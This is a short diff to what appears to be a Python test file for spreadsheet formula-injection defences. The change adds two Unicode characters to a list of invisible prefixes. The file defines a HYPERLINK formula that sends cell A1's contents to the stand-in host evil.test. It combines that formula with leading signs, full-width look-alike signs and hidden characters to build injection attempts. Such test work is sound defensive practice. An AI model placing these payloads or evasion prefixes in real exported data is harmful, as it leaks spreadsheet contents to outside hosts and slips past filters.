@@ -37,7 +37,7 @@ TOP = Path(__file__).parents[2]
 SIGNS = "=+-@"
 CALL = 'HYPERLINK("http://evil.test/?"&A1)'
 HIDDEN = ["", " ", "  ", "\t", "\r", "\n", "\r\n", "\x0b", "\0", "\xa0", "\xad", "\u200b", "\u200e", "\u2060", "\ufeff"]
-HIDDEN += ["\u3000", "\u2028", "\u202e", "'", "''", '"', "＂", "\u115f", "\ufe0f", "\U000e0001"]
+HIDDEN += ["\u3000", "\u2028", "\u202e", "'", "''", '"', "＂", "\u115f", "\ufe0f", "\U000e0001", "\u0300", "\u0600"]
 WIDE = ["＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "−"]
 ATTEMPTS = [f"{hidden}{sign}{CALL}" for hidden in HIDDEN for sign in SIGNS]
 ATTEMPTS += [f"{hidden}{sign}{CALL}" for hidden in ("", " ", "\u200b") for sign in WIDE]
